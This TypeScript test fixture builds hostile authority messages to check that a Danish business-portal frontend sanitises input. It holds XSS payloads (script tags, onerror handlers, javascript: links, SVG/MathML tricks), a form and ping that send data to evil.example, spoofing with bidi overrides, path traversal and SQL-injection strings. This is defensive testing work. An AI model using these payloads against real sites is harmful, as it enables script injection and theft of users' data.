/** Content that tries to do harm and yet keeps the contract's shapes: what an authority's system might be made to send. */
import type { PlainDate } from '../../components/shared/i18n/dates.js';
import type { AuthorityItem } from '../contract/mit-virk.js';
import { danishDate, makeBesked, makeFrist, makeSag, makeTilladelse, withRecipients } from './factories.js';

/** Sets this on `window` if any of it is ever run; tests look for it. */
const HARM = 'window.__skrankeHarmed=true';

const markup: readonly string[] = [
  `<script>${HARM}</script><p>Med script</p>`,
  `<p><img src="x" onerror="${HARM}"> Billede med handler</p>`,
  `<p><a href="javascript:${HARM}">javascript-link</a> <a href=" jav&#x09;ascript:${HARM}">skjult</a> <a href="data:text/html,<script>${HARM}</script>">data</a></p>`,
  `<svg onload="${HARM}"><a xlink:href="javascript:${HARM}"><text>svg</text></a></svg><math><mtext><style><img src=x onerror=${HARM}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.__skrankeHarmed=true</script>"></iframe><object data="javascript:${HARM}"></object><form action="https://evil.example/"><input name="cpr"><button>Send</button></form>`,
  `<style>*{display:none !important}</style><link rel="stylesheet" href="https://evil.example/x.css"><p style="position:fixed;inset:0;background:red">Dækker siden</p>`,
  '<p>Ikke lukket <b>fed <i>kursiv <a href="https://www.example.dk/">link',
  `<p id="main" name="body" class="skranke" slot="x" part="row">Navne, der overtager</p><a href="https://www.example.dk/" target="_top" ping="https://evil.example/">ping</a>`,
];

function texts(today: PlainDate) {
  const longWord = 'Ø'.repeat(250);
  return [
    makeFrist({ overskrift: `<script>${HARM}</script>`, fristDato: danishDate(today, 1) }),
    makeFrist({
      overskrift: longWord,
      beskrivelse: 'Lang'.repeat(2500),
      fristDato: danishDate(today, 2),
    }),
    makeFrist({
      overskrift: 'Betal \u202Egnud\u202C nu \u2067mod\u2069 venstre',
      beskrivelse: '\u202Evendt om',
      fristDato: danishDate(today, 3),
    }),
    makeFrist({
      overskrift: '${alert(1)} {{7*7}} <%= 1 %> &lt;b&gt; &amp;amp;',
      fristDato: danishDate(today, 4),
    }),
    makeFrist({
      overskrift: 'Emoji 👩‍👩‍👧‍👦 og z̷̢a̸l̴g̵o̶',
      myndighed: `"><img src=x onerror=${HARM}>`,
      fristDato: '31-12-9999',
    }),
    makeSag({
      overskrift: 'Sag med mærkelig status',
      status: `Afventer virksomhed<img src=x onerror=${HARM}>`,
      sagsnummer: '../../etc/passwd',
    }),
    makeBesked({
      overskrift: 'Link til sig selv',
      link: 'https://user:pass@evil.example/%2e%2e',
      linkTekst: 'https://www.virk.dk',
    }),
    makeTilladelse({
      overskrift: 'Forny her',
      tilladelsesnummer: `'; DROP TABLE--`,
      fornyelseLink: 'http://evil.example/?q=<script>',
    }),
  ];
}

export function hostileData(today: PlainDate): AuthorityItem[] {
  const fromMarkup = markup.map((beskrivelse, index) =>
    makeFrist({
      overskrift: `Skadelig tekst ${index + 1}`,
      beskrivelse,
      fristDato: danishDate(today, index),
    }),
  );
  return [...fromMarkup, ...texts(today)].map((item, index) =>
    withRecipients({ ...item, id: `h-${index + 1}` }),
  );
}
